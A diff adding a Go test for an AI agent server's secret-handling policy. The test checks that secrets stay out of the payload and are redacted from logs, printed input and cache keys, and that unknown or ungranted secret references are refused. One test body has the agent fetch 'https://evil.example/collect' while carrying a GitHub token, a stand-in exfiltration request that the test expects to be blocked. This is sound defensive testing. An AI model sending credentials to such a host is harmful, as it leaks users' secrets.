@@ -0,0 +1,107 @@
+package api
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"log"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/AgentForgeEngine/AgentForgeEngine/internal/logging"
+	"github.com/AgentForgeEngine/AgentForgeEngine/internal/policy"
+	"github.com/AgentForgeEngine/AgentForgeEngine/pkg/interfaces"
+)
+
+func TestHandleCallAgent_Secrets(t *testing.T) {
+	const sent, stored = "sent-s3cr3t", "stored-s3cr3t"
+	t.Setenv("AFE_SECRET_GITHUB_TOKEN", stored)
+
+	// The policy audits through the standard logger
+	var logged bytes.Buffer
+	log.SetOutput(&logged)
+	defer log.SetOutput(os.Stderr)
+
+	agent := &fakeAgent{name: "fetch", output: interfaces.AgentOutput{Success: true}}
+	server := NewServer("localhost", 0)
+	server.pluginManager = fakeRegistry{"fetch": agent}
+	server.SetPolicy(policy.New(policy.Config{
+		Default:       policy.ModeDeny,
+		AllowedAgents: []string{"fetch"},
+		Secrets: map[string]policy.SecretGrant{
+			"github-token": {Agents: []string{"fetch"}, Domains: []string{"example.com"}},
+			"missing":      {Agents: []string{"fetch"}},
+		},
+	}))
+	buffer := logging.NewBuffer(100)
+	server.SetLogBuffer(buffer)
+
+	body := fmt.Sprintf(`{"type": "get", "payload": {"url": "https://example.com"},
+		"secrets": {"api_key": %q}, "secret_refs": {"token": "github-token"}}`, sent)
+	request := httptest.NewRequest(http.MethodPost, "/api/v1/agents/fetch", strings.NewReader(body))
+	status, response := serve(t, server, request)
+	if status != http.StatusOK {
+		t.Fatalf("Expected the call to succeed, got %d: %+v", status, response)
+	}
+
+	if agent.input.Secrets.Get("api_key") != sent || agent.input.Secrets.Get("token") != stored {
+		t.Errorf("Expected the agent to get both secrets, got %d", len(agent.input.Secrets))
+	}
+	if _, ok := agent.input.Payload["api_key"]; ok {
+		t.Error("Expected secrets to stay out of the payload")
+	}
+
+	encoded, _ := json.Marshal(agent.input)
+	outputs := map[string]string{
+		"standard log":  logged.String(),
+		"JSON input":    string(encoded),
+		"printed input": fmt.Sprintf("%v %+v %#v", agent.input, agent.input, agent.input),
+		"cache key":     callSignature(FunctionCall{Name: "fetch", Arguments: agent.input.Payload}),
+	}
+	for _, record := range buffer.Query(logging.Filter{}) {
+		outputs["log buffer"] += record.Message + "\n"
+	}
+	for name, output := range outputs {
+		for _, secret := range []string{sent, stored} {
+			if strings.Contains(output, secret) {
+				t.Errorf("%s holds secret %q: %s", name, secret, output)
+			}
+		}
+	}
+	if !strings.Contains(outputs["printed input"], interfaces.Redacted) {
+		t.Errorf("Expected printed secrets to be redacted, got %s", outputs["printed input"])
+	}
+
+	// A reference the store cannot resolve fails the call without running it
+	agent.calls = 0
+	request = httptest.NewRequest(http.MethodPost, "/api/v1/agents/fetch",
+		strings.NewReader(`{"type": "get", "secret_refs": {"token": "missing"}}`))
+	if status, response := serve(t, server, request); status != http.StatusBadRequest || !strings.Contains(response.Error, "secret not found: missing") {
+		t.Errorf("Expected an unknown secret to be refused, got %d: %+v", status, response)
+	}
+	if agent.calls != 0 {
+		t.Error("Expected the agent not to run")
+	}
+
+	// References policy.secrets does not grant to the agent and its hosts
+	// are forbidden
+	for _, body := range []string{
+		`{"type": "get", "payload": {"url": "https://example.com"}, "secret_refs": {"token": "aws-key"}}`,
+		`{"type": "get", "payload": {"url": "https://evil.example/collect"}, "secret_refs": {"token": "github-token"}}`,
+		`{"type": "get", "secret_refs": {"token": "github-token"}}`,
+	} {
+		request = httptest.NewRequest(http.MethodPost, "/api/v1/agents/fetch", strings.NewReader(body))
+		if status, response := serve(t, server, request); status != http.StatusForbidden || response.Code != policy.CodeSecretDenied {
+			t.Errorf("Expected %s to be forbidden, got %d: %+v", body, status, response)
+		}
+	}
+	if agent.calls != 0 {
+		t.Error("Expected the agent not to run")
+	}
+	if strings.Contains(logged.String(), stored) {
+		t.Errorf("Expected denials not to log the secret, got %s", logged.String())
+	}
+}